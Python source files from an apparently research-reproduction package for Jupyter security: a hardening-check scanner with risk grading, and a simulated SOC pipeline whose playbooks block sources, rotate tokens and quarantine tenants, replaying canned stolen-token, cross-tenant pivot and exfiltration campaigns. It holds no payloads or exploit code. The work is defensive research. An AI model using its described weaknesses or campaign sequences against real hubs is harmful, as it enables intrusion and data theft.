    CRITICAL = "critical"

    @property
    def weight(self) -> float:
        return {"info": 0.0, "low": 1.0, "medium": 4.0, "high": 7.0, "critical": 10.0}[self.value]


@dataclass(frozen=True)
class CheckResult:
    check_id: str
    title: str
    passed: bool
    severity: Severity
    finding: str = ""
    remediation: str = ""


def _result(check_id: str, title: str, passed: bool, severity: Severity,
            finding: str, remediation: str) -> CheckResult:
    return CheckResult(check_id, title, passed, severity,
                       "" if passed else finding, "" if passed else remediation)


# --------------------------------------------------------------------------
# Checks (ids follow a JPT- prefix: "Jupyter hardening")
# --------------------------------------------------------------------------


def check_auth_enabled(cfg: ServerConfig) -> CheckResult:
    ok = cfg.auth_enabled and not cfg.allow_unauthenticated_access
    return _result("JPT-001", "authentication required", ok, Severity.CRITICAL,
                   "server accepts unauthenticated requests (token and password empty "
                   "or allow_unauthenticated_access set)",
                   "set a strong token or password hash; never set "
                   "allow_unauthenticated_access in production")


def check_bind_address(cfg: ServerConfig) -> CheckResult:
    ok = not cfg.publicly_bound
    return _result("JPT-002", "bind address not world-facing", ok, Severity.HIGH,
                   f"server binds {cfg.ip}, reachable from any network",
                   "bind 127.0.0.1 behind an authenticating proxy (JupyterHub, "
                   "OAuth proxy) or a VPN interface")


def check_tls(cfg: ServerConfig) -> CheckResult:
    # Plain HTTP on loopback is tolerable; anywhere else it leaks tokens.
    ok = cfg.tls_enabled or (not cfg.publicly_bound and not cfg.allow_remote_access)
    return _result("JPT-003", "TLS for remote access", ok, Severity.HIGH,
                   "remote access without TLS: tokens and notebook contents "
                   "travel plaintext (harvest-now-decrypt-later applies, §IV.B)",
                   "provision certfile/keyfile; prefer certificates from the "
                   "campus CA")


def check_token_strength(cfg: ServerConfig) -> CheckResult:
    if not cfg.token:
        return _result("JPT-004", "token strength", True, Severity.INFO, "", "")
    bits = token_entropy_bits(cfg.token)
    ok = bits >= 64
    return _result("JPT-004", "token strength", ok, Severity.HIGH,
                   f"access token carries ~{bits:.0f} bits of entropy — guessable",
                   "generate with `jupyter server --generate-config` / secrets.token_urlsafe")


def check_password_rounds(cfg: ServerConfig) -> CheckResult:
    if not cfg.password_hash:
        return _result("JPT-005", "password hash strength", True, Severity.INFO, "", "")
    rounds = parse_hash_rounds(cfg.password_hash)
    ok = rounds is not None and rounds >= 10_000
    return _result("JPT-005", "password hash strength", ok, Severity.MEDIUM,
                   f"password hash uses {rounds} PBKDF2 rounds (or unknown format)",
                   "re-hash with >=600k rounds (OWASP 2023 guidance)")


def check_cors(cfg: ServerConfig) -> CheckResult:
    ok = cfg.allow_origin != "*"
    return _result("JPT-006", "CORS origin restriction", ok, Severity.HIGH,
                   "Access-Control-Allow-Origin '*' lets any website script "
                   "drive the server with the victim's cookies",
                   "pin allow_origin to the exact frontend origin")


def check_xsrf(cfg: ServerConfig) -> CheckResult:
    ok = not cfg.disable_check_xsrf
    return _result("JPT-007", "XSRF protection enabled", ok, Severity.MEDIUM,
                   "XSRF checks disabled: cross-site requests execute state changes",
                   "remove disable_check_xsrf")


def check_root(cfg: ServerConfig) -> CheckResult:
    ok = not cfg.allow_root
    return _result("JPT-008", "not running as root", ok, Severity.HIGH,
                   "kernels inherit uid 0; one escaped cell owns the node",
                   "run as an unprivileged service account")


def check_version(cfg: ServerConfig) -> CheckResult:
    cves = cfg.known_cves()
    ok = not cves
    return _result("JPT-009", "no known-vulnerable version", ok, Severity.CRITICAL,
                   f"version {cfg.version} affected by {', '.join(cves)}",
                   f"upgrade to {LATEST_VERSION}")


def check_message_signing(cfg: ServerConfig) -> CheckResult:
    ok = bool(cfg.session_key)
    return _result("JPT-010", "kernel messages signed", ok, Severity.MEDIUM,
                   "empty Session.key: kernel-protocol messages are unsigned and "
                   "spoofable on any on-path position",
                   "set a random session key; consider PQ-ready schemes (§IV.B)")


def check_rate_limiting(cfg: ServerConfig) -> CheckResult:
    ok = cfg.rate_limit_window_seconds > 0 and cfg.rate_limit_max_requests > 0
    return _result("JPT-011", "request rate limiting", ok, Severity.LOW,
                   "no rate limiting: token brute force proceeds at line rate",
                   "enable per-source rate limits at the server or proxy")


def check_terminals(cfg: ServerConfig) -> CheckResult:
    ok = not cfg.terminals_enabled or not cfg.publicly_bound
    return _result("JPT-012", "terminals not exposed publicly", ok, Severity.MEDIUM,
                   "terminal endpoint enabled on a world-reachable server — "
                   "interactive shell one auth bypass away",
                   "disable terminals or restrict binding")


def check_signature_scheme(cfg: ServerConfig) -> CheckResult:
    ok = cfg.signature_scheme in ("hmac-sha256", "hmac-sha3-256", "lamport", "wots", "merkle")
    return _result("JPT-013", "recognised signature scheme", ok, Severity.MEDIUM,
                   f"unknown signature scheme {cfg.signature_scheme!r}",
                   "use hmac-sha256 or a registered PQ scheme")


ALL_CHECKS: List[Callable[[ServerConfig], CheckResult]] = [
    check_auth_enabled,
    check_bind_address,
    check_tls,
    check_token_strength,
    check_password_rounds,
    check_cors,
    check_xsrf,
    check_root,
    check_version,
    check_message_signing,
    check_rate_limiting,
    check_terminals,
    check_signature_scheme,
]


def run_checks(cfg: ServerConfig) -> List[CheckResult]:
    return [check(cfg) for check in ALL_CHECKS]
