"""Security-misconfiguration scanner (the preventive tool for the
taxonomy's third headline avenue).

Checks encode the hardening guidance the paper cites (NASA HECC secure-
setup KB, the NVIDIA/AWS assessment extensions) against a
:class:`~repro.server.config.ServerConfig`.  EXP-MISCFG correlates the
scanner's score with actual exploitability measured by running the
misconfiguration attacks against the same configs.
"""

from repro.misconfig.checks import ALL_CHECKS, CheckResult, Severity, run_checks
from repro.misconfig.hubchecks import ALL_HUB_CHECKS, run_hub_checks
from repro.misconfig.scanner import MisconfigScanner, ScanReport

__all__ = [
    "MisconfigScanner",
    "ScanReport",
    "CheckResult",
    "Severity",
    "ALL_CHECKS",
    "run_checks",
    "ALL_HUB_CHECKS",
    "run_hub_checks",
]
