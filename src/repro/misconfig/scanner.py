"""The scanner: runs the catalogue, scores risk, renders reports."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List

from repro.misconfig.checks import CheckResult, Severity, run_checks
from repro.server.config import ServerConfig
from repro.taxonomy.render import render_table


@dataclass
class ScanReport:
    """Results of scanning one configuration."""

    server_name: str
    results: List[CheckResult]

    @property
    def failures(self) -> List[CheckResult]:
        return [r for r in self.results if not r.passed]

    @property
    def risk_score(self) -> float:
        """Sum of failed-check severity weights (0 = clean, 13 checks max ~80)."""
        return sum(r.severity.weight for r in self.failures)

    @property
    def grade(self) -> str:
        score = self.risk_score
        if score == 0:
            return "A"
        if score <= 5:
            return "B"
        if score <= 15:
            return "C"
        if score <= 30:
            return "D"
        return "F"

    def failures_by_severity(self) -> Dict[str, int]:
        out: Dict[str, int] = {}
        for r in self.failures:
            out[r.severity.value] = out.get(r.severity.value, 0) + 1
        return out

    def render(self) -> str:
        rows = [
            (r.check_id, r.title, "PASS" if r.passed else "FAIL",
             r.severity.value if not r.passed else "", r.finding[:60])
            for r in self.results
        ]
        header = (f"Scan report for {self.server_name}: grade {self.grade} "
                  f"(risk score {self.risk_score:.0f})")
        table = render_table(rows, ["check", "title", "status", "severity", "finding"])
        remediations = [f"  - [{r.check_id}] {r.remediation}" for r in self.failures]
        tail = "\nRemediations:\n" + "\n".join(remediations) if remediations else "\nNo findings."
        return f"{header}\n{table}{tail}"


class MisconfigScanner:
    """Scan configurations; compare fleets; track deltas after hardening."""

    def scan(self, config: ServerConfig) -> ScanReport:
        return ScanReport(server_name=config.server_name, results=run_checks(config))

    def scan_hub(self, hub_config) -> ScanReport:
        """Audit a :class:`~repro.hub.users.HubConfig` against the HUB-
        catalogue (same report machinery, hub-level knobs)."""
        from repro.misconfig.hubchecks import run_hub_checks

        return ScanReport(server_name=hub_config.hub_name,
                          results=run_hub_checks(hub_config))

    def scan_fleet(self, configs: List[ServerConfig]) -> List[ScanReport]:
        return sorted((self.scan(c) for c in configs), key=lambda r: -r.risk_score)

    def hardening_delta(self, config: ServerConfig) -> Dict[str, float]:
        """Risk before/after applying the recommended hardened copy."""
        before = self.scan(config).risk_score
        after = self.scan(config.hardened_copy()).risk_score
        return {"before": before, "after": after, "reduction": before - after}
