"""The automated response subsystem: detection → incident → containment.

The paper's taxonomy stops at the Notice — the monitor sees the attack,
and nothing acts.  This package closes the loop the way a hub operator's
SOC would:

- :mod:`repro.soc.incidents`  — fold notice streams into deduplicated,
  severity-escalating :class:`Incident` objects keyed by
  ``(source, tenant, avenue)``, merged across shard monitors.
- :mod:`repro.soc.playbook`   — declarative :class:`ResponseRule`
  catalogues with thresholds, scopes, cooldowns, and a dry-run mode;
  :class:`ResponsePolicy` rides inside a frozen ``WorldSpec``.
- :mod:`repro.soc.actions`    — containment enforced at existing
  layers: proxy source blocklists, hub token rotation, spawner
  tenant quarantine.
- :mod:`repro.soc.controller` — the event-loop-driven
  :class:`ResponseController` tying the three together, plus the
  honeypot path: intel-feed indicators auto-install as monitor
  signatures and burned sources auto-block fleet-wide.
- :mod:`repro.soc.replay`     — canned multi-wave arms-race campaigns
  for ``repro soc --replay`` and the EXP-SOC benchmark.
"""

from repro.soc.actions import ContainmentActions
from repro.soc.controller import ResponseController
from repro.soc.incidents import AlertCorrelator, Incident
from repro.soc.playbook import (
    DEFAULT_RULES,
    PlaybookRunner,
    ResponseAction,
    ResponsePolicy,
    ResponseRule,
    severity_rank,
    tightened,
)
from repro.soc.replay import CANNED, ReplayReport, run_replay

__all__ = [
    "AlertCorrelator",
    "Incident",
    "ResponseRule",
    "ResponsePolicy",
    "ResponseAction",
    "PlaybookRunner",
    "DEFAULT_RULES",
    "severity_rank",
    "tightened",
    "ContainmentActions",
    "ResponseController",
    "CANNED",
    "ReplayReport",
    "run_replay",
]
