"""Declarative response playbooks: rules in, containment decisions out.

A :class:`ResponseRule` is the SOC analogue of a detection signature —
pure data describing *when* to act (avenue, severity, notice threshold,
source scope) and *what* to do (an ordered tuple of action names the
:class:`~repro.soc.actions.ContainmentActions` layer implements).  The
:class:`PlaybookRunner` evaluates rules against open incidents with
per-(rule, incident) cooldowns so a noisy incident cannot re-trigger the
same containment every poll.

Everything in this module is plain data + bookkeeping: no network, no
scenario objects.  That keeps it importable from the topology spec layer
(a :class:`ResponsePolicy` rides inside a frozen ``WorldSpec``) without
dragging the live wiring along.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Dict, List, Optional, Tuple

from repro.taxonomy.oscrp import Avenue

if TYPE_CHECKING:  # pragma: no cover
    from repro.soc.incidents import Incident

#: Notice severity, orderable.  Shared by the correlator and the rules.
SEVERITY_ORDER: Dict[str, int] = {"low": 0, "medium": 1, "high": 2, "critical": 3}


def severity_rank(severity: str) -> int:
    return SEVERITY_ORDER.get(severity, 0)


@dataclass(frozen=True)
class ResponseRule:
    """One containment rule: incident predicate → ordered actions.

    ``actions`` name methods of the containment layer:
    ``block_source``, ``revoke_exposed_tokens``, ``quarantine_tenants``,
    ``unblock_source``.  ``source_scope`` distinguishes incidents blamed
    on external infrastructure (block it at the front door) from ones
    sourced *inside* the fleet (a compromised kernel exfiltrating —
    nothing to block at the edge; quarantine the tenant instead).
    """

    name: str
    actions: Tuple[str, ...]
    description: str = ""
    avenues: Tuple[Avenue, ...] = ()       # empty = any avenue
    notice_names: Tuple[str, ...] = ()     # empty = any notice
    min_severity: str = "high"
    min_notices: int = 1                   # incident notice count threshold
    source_scope: str = "any"              # "external" | "internal" | "any"
    cooldown: float = 300.0                # seconds between firings per incident

    def matches(self, incident: "Incident") -> bool:
        if incident.notice_count < self.min_notices:
            return False
        if severity_rank(incident.severity) < severity_rank(self.min_severity):
            return False
        if self.avenues and incident.avenue not in self.avenues:
            return False
        if self.notice_names and not any(n in incident.notice_names
                                         for n in self.notice_names):
            return False
        if self.source_scope == "external" and not incident.external:
            return False
        if self.source_scope == "internal" and incident.external:
            return False
        return True


#: The catalogue a defended hub starts with (``repro soc --rules``).
DEFAULT_RULES: Tuple[ResponseRule, ...] = (
    ResponseRule(
        name="block-hostile-source",
        description=("An external source implicated in a high-severity "
                     "incident is severed and blocked at every front door, "
                     "and any tenant tokens it swept are rotated."),
        actions=("block_source", "revoke_exposed_tokens"),
        min_severity="high",
        source_scope="external",
        cooldown=60.0,
    ),
    ResponseRule(
        name="contain-compromised-session",
        description=("A high-severity ransomware/exfiltration/mining "
                     "incident sourced *inside* the fleet quarantines the "
                     "implicated tenant servers (falling back to blocking "
                     "the session's source when no tenant resolves)."),
        actions=("quarantine_tenants",),
        avenues=(Avenue.RANSOMWARE, Avenue.DATA_EXFILTRATION,
                 Avenue.CRYPTOMINING),
        min_severity="high",
        source_scope="internal",
        cooldown=120.0,
    ),
    ResponseRule(
        name="shed-padding-on-burn",
        description=("An SLO_BURN incident (telemetry burn-rate alert, "
                     "e.g. the shaping-delay objective) sheds the padding "
                     "latency cost: front doors keep size-bucket padding "
                     "but drop response jitter to zero.  Inert in worlds "
                     "without SLOs — nothing else emits SLO_BURN."),
        actions=("relax_padding",),
        notice_names=("SLO_BURN",),
        min_severity="high",
        cooldown=120.0,
    ),
)


@dataclass(frozen=True)
class ResponsePolicy:
    """How a defended topology responds — a frozen field of ``WorldSpec``.

    Compiled by :class:`~repro.topology.builder.WorldBuilder` into a live
    :class:`~repro.soc.controller.ResponseController`.  ``dry_run`` keeps
    the whole pipeline (correlation, rule matching, action records) but
    executes nothing — the mode for tuning rules against replayed
    campaigns before arming them.
    """

    rules: Tuple[ResponseRule, ...] = DEFAULT_RULES
    enabled: bool = True
    poll_interval: float = 2.0
    dry_run: bool = False
    #: Auto-subscribe honeypot intel: content signatures flow into every
    #: monitor's signature engine, and burned-source indicators at or
    #: above ``intel_min_confidence`` become fleet-wide proxy blocks.
    auto_block_intel: bool = True
    intel_min_confidence: float = 0.9
    #: Harvest any adopted honeypot fleet on every poll, so a decoy burn
    #: turns into an indicator within one poll interval.
    harvest_on_poll: bool = True
    # -- un-containment (what real SOCs do so blocklists don't grow forever) --
    #: Auto-release a quarantined tenant after this many quiet seconds
    #: (no new evidence implicating it since the quarantine).  0 = never.
    quarantine_release_after: float = 0.0
    #: Unblock an incident-driven source block after this many quiet
    #: seconds (no new evidence from that source).  0 = permanent.
    block_ttl: float = 0.0
    #: Expiry applied to intel-driven source blocks: an indicator with no
    #: ``valid_until`` of its own is treated as valid for this many
    #: seconds after creation, after which the block lifts.  0 = forever.
    intel_ttl: float = 0.0


def tightened(policy: Optional[ResponsePolicy] = None, *,
              cooldown: float = 10.0) -> ResponsePolicy:
    """The hardened counter-move in the arms race: containment never
    expires (quarantines stick, blocks are permanent, intel has no TTL)
    and every rule's cooldown shrinks so re-offending incidents re-fire
    almost immediately.  ``repro adversary`` and EXP-ARMS use this as the
    third regime against adaptive attackers."""
    from dataclasses import replace as _replace

    base = policy or ResponsePolicy()
    rules = tuple(_replace(r, cooldown=min(r.cooldown, cooldown))
                  for r in base.rules)
    return _replace(base, rules=rules, quarantine_release_after=0.0,
                    block_ttl=0.0, intel_ttl=0.0)


@dataclass
class ResponseAction:
    """One containment decision, executed or dry-run."""

    ts: float
    rule: str
    action: str
    target: str
    incident_id: str
    ok: bool = True
    dry_run: bool = False
    detail: str = ""

    def to_dict(self) -> Dict[str, Any]:
        return {"ts": self.ts, "rule": self.rule, "action": self.action,
                "target": self.target, "incident": self.incident_id,
                "ok": self.ok, "dry_run": self.dry_run, "detail": self.detail}


class PlaybookRunner:
    """Evaluates rules against incidents, enforcing cooldowns."""

    def __init__(self, rules: Tuple[ResponseRule, ...] = DEFAULT_RULES):
        self.rules: List[ResponseRule] = list(rules)
        self._last_fired: Dict[Tuple[str, str], float] = {}
        self._fired_at_count: Dict[Tuple[str, str], int] = {}

    def due(self, incident: "Incident", now: float) -> List[ResponseRule]:
        """Rules that match ``incident``, are off cooldown at ``now``,
        and have new evidence since their last firing (a rule never
        re-fires on an unchanged incident, however long it stays open)."""
        out = []
        for rule in self.rules:
            if not rule.matches(incident):
                continue
            key = (rule.name, incident.incident_id)
            last = self._last_fired.get(key)
            if last is not None:
                if now - last < rule.cooldown:
                    continue
                if self._fired_at_count.get(key) == incident.notice_count:
                    continue
            out.append(rule)
        return out

    def mark_fired(self, rule: ResponseRule, incident: "Incident",
                   now: float) -> None:
        key = (rule.name, incident.incident_id)
        self._last_fired[key] = now
        self._fired_at_count[key] = incident.notice_count
