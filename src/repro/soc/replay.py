"""Canned arms-race campaigns, replayable against any hub topology.

The stochastic :class:`~repro.attacks.campaign.CampaignGenerator` is the
right tool for rate *surveys*; tuning and demonstrating a response
pipeline wants deterministic, multi-wave campaigns where the attacker
comes back after being burned:

- ``pivot`` — stolen token, a cross-tenant sweep, then a *return wave*
  of the same sweep.  Undefended, the second wave loots the fleet again;
  defended, the first wave's CROSS_TENANT_SWEEP incident blocks the
  source and the return wave dies at the front door.
- ``exfil`` — stolen token, a bulk exfiltration wave (loud enough that
  EXFIL_VOLUME fires mid-transfer), then a second bulk wave for the
  artifacts the victim keeps producing.  Defended, the first wave's
  incident quarantines the leaking tenant and the return wave dies
  against the spawner's quarantine.

``repro soc --replay`` and the EXP-SOC benchmark both run these.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Union

from repro.attacks.campaign import Campaign, CampaignOutcome, run_campaign
from repro.attacks.exfiltration import ExfiltrationAttack
from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.attacks.takeover import StolenTokenAttack


def pivot_campaign() -> Campaign:
    return Campaign(1, [
        StolenTokenAttack(),
        CrossTenantPivotAttack(request_delay=0.5),
        CrossTenantPivotAttack(request_delay=0.5),  # the return wave
    ], "pivot")


def exfil_campaign() -> Campaign:
    # Two bulk waves: the seeded artifacts (~30 kB) cross the
    # scale-model egress threshold (20 kB / 60 s) inside wave one, so
    # EXFIL_VOLUME attributes the leak to the tenant's node while the
    # attacker is still working — and the return wave meets whatever
    # the defender did about it.
    return Campaign(2, [
        StolenTokenAttack(),
        ExfiltrationAttack(),
        ExfiltrationAttack(),  # the return wave
    ], "steal")


CANNED: Dict[str, Callable[[], Campaign]] = {
    "pivot": pivot_campaign,
    "exfil": exfil_campaign,
}


@dataclass
class ReplayReport:
    """One canned campaign run, with the defender's worldview attached."""

    topology: str
    campaign: str
    outcome: CampaignOutcome
    notices: List[str] = field(default_factory=list)
    incidents: List[str] = field(default_factory=list)
    timeline: List[str] = field(default_factory=list)
    soc_summary: Optional[Dict] = None
    proxy_summary: Optional[Dict] = None

    @property
    def containment_actions(self) -> int:
        return len([a for a in self.outcome.actions
                    if a.ok and not a.dry_run])

    def to_dict(self) -> Dict:
        o = self.outcome
        return {
            "topology": self.topology,
            "campaign": self.campaign,
            "stages": [{"name": r.attack, "success": r.success,
                        "started": r.started, "finished": r.finished,
                        "narrative": r.narrative} for r in o.results],
            "aborted_stage": o.failed_stage,
            "failure": o.failure,
            "detected": o.detected,
            "detected_at": o.detected_at,
            "contained_at": o.contained_at,
            "containment_leadtime": o.containment_leadtime,
            "post_detection_success": o.post_detection_success,
            "stages_prevented": o.stages_prevented,
            "actions": [a.to_dict() for a in o.actions],
            "notices": self.notices,
            "incidents": self.incidents,
            "soc": self.soc_summary,
            "proxy": self.proxy_summary,
        }


def run_replay(*, topology: Union[str, object] = "defended-hub",
               campaign: str = "pivot", seed: int = 4242,
               insecure: bool = True, n_tenants: int = 6) -> ReplayReport:
    """Build ``topology`` fresh and drive one canned campaign through it.

    ``insecure`` selects the shared-token/proxy-auth-off hub config —
    the deployment where a pivot actually spreads, i.e. where a response
    layer has work to do.  Defended and undefended presets accept the
    same knobs, so A/B runs differ only in the ResponsePolicy.
    """
    from repro.hub.users import insecure_hub_config
    from repro.topology import WorldBuilder, resolve_spec

    factory = CANNED.get(campaign)
    if factory is None:
        raise KeyError(f"unknown canned campaign {campaign!r} "
                       f"(have: {', '.join(sorted(CANNED))})")
    overrides = {}
    if isinstance(topology, str):
        overrides["n_tenants"] = n_tenants
        if insecure:
            overrides["hub_config"] = insecure_hub_config()
    spec = resolve_spec(topology, **overrides)
    scenario = WorldBuilder().build(spec, seed=seed)
    outcome = run_campaign(scenario, factory())
    soc = getattr(scenario, "soc", None)
    proxy = getattr(scenario, "proxy", None)
    return ReplayReport(
        topology=spec.name, campaign=campaign, outcome=outcome,
        notices=[f"{n.ts:9.2f}s  notice    {n.name} ({n.severity}) "
                 f"src={n.src or '-'}"
                 for n in scenario.monitor.logs.notices
                 if n.severity in ("high", "critical")],
        incidents=([i.describe() for i in soc.correlator.by_severity()]
                   if soc is not None else []),
        timeline=soc.timeline() if soc is not None else [],
        soc_summary=soc.summary() if soc is not None else None,
        proxy_summary=proxy.summary() if proxy is not None else None,
    )
