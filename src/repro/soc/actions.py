"""Containment actions: what the playbook can actually *do*.

Each action is enforced at an existing layer, where a real deployment
enforces it (the SDSC Satellite lesson — containment lives in the proxy
tier, not the detector):

- **block_source** — drop the source into every front-door proxy's
  blocklist (new requests answer 403, established channels are severed).
- **revoke_token** — rotate a hub account's token; the stolen credential
  dies at the edge while the tenant re-authenticates with the new one.
  The spawned backend's config is kept in sync so the rotation does not
  lock the legitimate owner out of their own server.
- **quarantine_tenant** — stop the tenant's server via the spawner and
  refuse respawns until released; the proxy routes and live channels go
  down with it.

Every method returns ``(ok, detail)`` so the controller can log honest
:class:`~repro.soc.playbook.ResponseAction` records for partial failures
(e.g. a source that was already blocked, a tenant with no server).
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple

from repro.hub.proxy import ReverseProxy
from repro.hub.spawner import SpawnError, Spawner
from repro.hub.users import HubUserDirectory


class ContainmentActions:
    """Containment primitives bound to one hub fleet's control surfaces."""

    def __init__(self, *, proxies: Sequence[ReverseProxy] = (),
                 users: Optional[HubUserDirectory] = None,
                 spawner: Optional[Spawner] = None):
        self.proxies: List[ReverseProxy] = list(proxies)
        self.users = users
        self.spawner = spawner
        #: Own-infrastructure allowlist: egress detectors attribute the
        #: proxy's client-facing leg to the proxy itself, so without this
        #: guard a loud loot transfer would make the SOC block its own
        #: front door.  Real SOCs carry exactly this "never block your
        #: own kit" list.
        self.protected_sources = {p.host.ip for p in self.proxies}

    # -- edge blocking --------------------------------------------------------
    def block_source(self, ip: str) -> Tuple[bool, str]:
        if not ip or "." not in ip:
            return False, f"unblockable source {ip!r}"
        if ip in self.protected_sources:
            return False, f"refusing to block own infrastructure {ip}"
        if not self.proxies:
            return False, "no front-door proxies to block at"
        newly = sum(1 for proxy in self.proxies if proxy.block_source(ip))
        if newly == 0:
            return False, f"{ip} already blocked on all {len(self.proxies)} front door(s)"
        return True, f"blocked {ip} on {newly}/{len(self.proxies)} front door(s)"

    def unblock_source(self, ip: str) -> Tuple[bool, str]:
        if not self.proxies:
            return False, "no front-door proxies"
        newly = sum(1 for proxy in self.proxies if proxy.unblock_source(ip))
        return newly > 0, f"unblocked {ip} on {newly} front door(s)"

    # -- identity -------------------------------------------------------------
    def revoke_token(self, username: str) -> Tuple[bool, str]:
        if self.users is None:
            return False, "no user directory"
        # The directory's on_revoke hooks (wired by WorldBuilder) keep
        # the spawned backend's token in sync, so the legitimate owner
        # stays able to reach their own server with the fresh token.
        new_token = self.users.revoke_token(username)
        if new_token is None:
            return False, f"no such user {username!r}"
        return True, f"rotated token for {username!r}"

    # -- spawner --------------------------------------------------------------
    def quarantine_tenant(self, username: str) -> Tuple[bool, str]:
        if self.spawner is None:
            return False, "no spawner"
        if username in self.spawner.quarantined:
            return False, f"{username!r} already quarantined"
        try:
            stopped = self.spawner.quarantine(username)
        except SpawnError as e:  # pragma: no cover - defensive
            return False, str(e)
        # Tear down any proxy channel still piping for this tenant:
        # stopping the server removes the route, but an established
        # WebSocket relay would otherwise keep flowing.
        for proxy in self.proxies:
            proxy.sever_tenant_channels(username)
        return True, ("stopped and quarantined" if stopped else
                      "quarantined (server was not running)")

    def release_tenant(self, username: str) -> Tuple[bool, str]:
        if self.spawner is None:
            return False, "no spawner"
        was = self.spawner.release(username)
        return was, (f"released {username!r}" if was
                     else f"{username!r} was not quarantined")

    # -- traffic shaping ------------------------------------------------------
    def relax_padding(self, target: str = "") -> Tuple[bool, str]:
        """Shed the latency cost of traffic shaping fleet-wide: every
        padded front door's policy drops its response jitter to zero.
        Size-bucket padding stays, so the size side channel remains
        defended — only the delay budget is reclaimed.  This is the
        SLO feedback action (``shed-padding-on-burn``): an SLO_BURN
        incident on the shaping-delay objective trades side-channel
        margin for latency.  ``target`` is the incident source label
        (``slo:<name>``); the action itself is fleet-wide.

        Swapping the frozen policy object (rather than muting the
        padder) keeps the jitter RNG stream aligned: ``jitter()`` still
        draws per response, the draw is just ``uniform(0, 0)``.
        """
        from dataclasses import replace

        padded = [p for p in self.proxies if p.padder is not None]
        if not padded:
            return False, "no padded front doors"
        relaxed = 0
        for proxy in padded:
            policy = proxy.padder.policy
            if policy.max_jitter > 0.0:
                proxy.padder.policy = replace(policy, max_jitter=0.0)
                relaxed += 1
        if relaxed == 0:
            return False, (f"jitter already shed on all {len(padded)} "
                           f"padded front door(s)")
        return True, (f"dropped response jitter on {relaxed}/{len(padded)} "
                      f"padded front door(s); size buckets kept")

    # -- resolution helpers (used by the controller) --------------------------
    def tenants_on_host_ip(self, ip: str) -> List[str]:
        """Tenants whose spawned server lives on the node with ``ip`` —
        how an internal-source incident (kernel egress shows the *node*
        as source) maps back to quarantine targets."""
        if self.spawner is None:
            return []
        return sorted(name for name, spawned in self.spawner.active.items()
                      if spawned.host.ip == ip)
