"""The response controller: detection → incident → playbook → containment.

One :class:`ResponseController` closes the loop for one hub fleet.  On
an event-loop cadence (like the idle culler) it:

1. harvests any adopted honeypot fleet, so decoy burns become intel
   indicators within one poll;
2. folds new monitor notices into incidents via the
   :class:`~repro.soc.incidents.AlertCorrelator`;
3. evaluates the :class:`~repro.soc.playbook.PlaybookRunner` rules
   against open incidents and executes the due containment actions;
4. runs the *un-containment* pass: quarantines auto-release after a
   quiet period, incident-driven source blocks lapse after
   ``block_ttl`` quiet seconds, and intel-driven blocks lift when their
   indicator expires — with ``released_total``/``re_contained_total``
   counters, so attacker adaptation (source rotation, waiting out the
   blocklist) is measurable as an arms race rather than a one-shot loss.

Independently of the poll, the controller subscribes to the threat-intel
feed: content-signature indicators are installed into every monitor's
signature engine, and burned-source indicators are auto-blocked at every
front door — the ROADMAP's "honeypot burn → fleet-wide block" path, with
the detection→containment lead time measurable from the action log.

Every decided action — containment *and* release — is also published to
``subscribe()``-d observers, so an arms-race harness (or a dashboard)
can watch the defender's moves without polling ``executed``.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Sequence, Set

from repro.soc.actions import ContainmentActions
from repro.soc.incidents import AlertCorrelator, Incident
from repro.soc.playbook import (
    PlaybookRunner,
    ResponseAction,
    ResponsePolicy,
    ResponseRule,
)


class ResponseController:
    """Wires correlation, playbooks, and containment to one fleet."""

    def __init__(self, *, loop, monitor, proxies: Sequence = (),
                 users=None, spawner=None,
                 policy: Optional[ResponsePolicy] = None,
                 internal_prefix: str = "10.", telemetry=None):
        from repro.telemetry import Telemetry

        self.loop = loop
        self.monitor = monitor
        self.policy = policy or ResponsePolicy()
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        self.correlator = AlertCorrelator(internal_prefix=internal_prefix,
                                          telemetry=self.telemetry)
        self.playbook = PlaybookRunner(self.policy.rules)
        self.actions = ContainmentActions(proxies=proxies, users=users,
                                          spawner=spawner)
        #: Every action decided, executed or dry-run, in decision order.
        self.executed: List[ResponseAction] = []
        #: Observers notified with each ResponseAction as it is decided
        #: (containment and release alike) — the observable feed the
        #: arms-race harness watches.
        self.observers: List[Callable[[ResponseAction], None]] = []
        self.polls = 0
        self.fleet = None  # honeypot fleet, when the topology has decoys
        #: SLO burn-rate evaluator (repro.telemetry.slo), attached by the
        #: builder when the spec declares SLOs.  Evaluated every poll;
        #: its SLO_BURN notices enter the same correlator as detector
        #: notices, so playbook rules (shed-padding-on-burn) act on them.
        self.slo = None
        self._intel_blocked: set = set()
        #: ip -> absolute expiry time for intel-driven blocks (None = never).
        self._intel_expiry: Dict[str, Optional[float]] = {}
        #: Containment bookkeeping for the un-containment pass.
        self.blocked_at: Dict[str, float] = {}      # incident-driven blocks
        self.quarantined_at: Dict[str, float] = {}
        #: tenant -> incident source that got it quarantined, so the
        #: quiet-period clock also watches the causing incident (node-
        #: attributed incidents don't name tenants directly).
        self._quarantine_source: Dict[str, str] = {}
        #: Targets the un-containment path let back out; re-containing
        #: one of them is the defender "winning a round", counted below.
        self._ever_released: Set[str] = set()
        self.released_total = 0
        self.re_contained_total = 0
        if self._tele_on:
            self._register_metrics()
        if self.policy.enabled:
            self._schedule()

    def _register_metrics(self) -> None:
        registry = self.telemetry.registry
        polls = registry.counter("soc_polls_total",
                                 "Response-controller poll passes")
        actions = registry.counter(
            "soc_actions_total",
            "Response actions decided, by outcome",
            labels=("outcome",))
        released = registry.counter(
            "soc_released_total", "Un-containment releases executed")
        recontained = registry.counter(
            "soc_re_contained_total",
            "Previously released targets contained again")
        incidents = registry.gauge(
            "soc_incidents", "Correlated incidents, by status",
            labels=("status",))

        def _collect() -> None:
            polls.set(self.polls)
            executed = failed = dry = 0
            for a in self.executed:
                if a.dry_run:
                    dry += 1
                elif a.ok:
                    executed += 1
                else:
                    failed += 1
            actions.labels(outcome="executed").set(executed)
            actions.labels(outcome="failed").set(failed)
            actions.labels(outcome="dry_run").set(dry)
            released.set(self.released_total)
            recontained.set(self.re_contained_total)
            open_n = len(self.correlator.open_incidents())
            incidents.labels(status="open").set(open_n)
            incidents.labels(status="contained").set(
                len(self.correlator.incidents) - open_n)

        registry.register_collector(_collect)

